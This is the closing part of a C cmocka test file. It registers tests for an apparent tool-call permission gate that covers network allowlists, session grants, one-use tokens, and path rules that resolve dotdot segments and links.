		T(test_network_policy_denial_names_the_port_entry),
		T(test_network_policy_ask_level_asks_for_unlisted_hosts),
		T(test_network_tool_without_url_arg_is_denied),
		T(test_destructive_tool_with_url_arg_keeps_the_allowlist),
		T(test_policy_levels_are_configurable),
		T(test_session_grant_allows_identical_call),
		T(test_session_grant_applies_in_its_own_session_only),
		T(test_session_grant_never_lifts_a_deny),
		T(test_token_is_used_once),
		T(test_token_refuses_changed_arguments_and_is_revoked),
		T(test_token_revoke_and_unknown_tokens),
		T(test_policy_copy_is_deep),
		TW(test_gate_path_allow_rule_sees_through_dotdot_and_links),
		TW(test_gate_path_allow_rule_needs_every_path_argument),
		TW(test_gate_path_deny_rule_any_argument_any_spelling),
		TW(test_gate_args_rule_on_path_argument_is_normalized),
		TW(test_gate_protected_paths_deny_writing_tools),
		TW(test_gate_patch_paths_meet_every_path_rule),
		TW(test_gate_program_patch_is_read_strictly),
		TW(test_gate_protected_patterns_any_depth),
		TW(test_gate_docs_destructive_example),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
